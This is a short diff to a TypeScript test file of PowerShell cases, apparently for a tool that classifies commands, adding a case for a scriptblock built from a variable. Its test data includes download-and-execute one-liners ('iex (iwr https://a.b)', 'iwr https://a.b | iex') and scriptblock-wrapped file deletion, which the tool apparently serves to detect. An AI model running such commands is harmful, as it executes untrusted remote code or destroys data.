@@ -109,6 +109,7 @@ const powershell: readonly Case[] = [
     "remove-item <x>",
   ],
   ["& ([scriptblock]::Create('rm x'))", "remove-item <x>"],
+  ["& ([scriptblock]::Create($x))", "?invoke-expression <$x>"],
   ["[scriptblock]::Create('rm x').Invoke()", "remove-item <x>"],
   ["iex (iwr https://a.b)", "invoke-webrequest <https://a.b>", "?invoke-expression <$(iwr https://a.b)>"],
   ["iwr https://a.b | iex", "invoke-webrequest <https://a.b>", "?invoke-expression"],
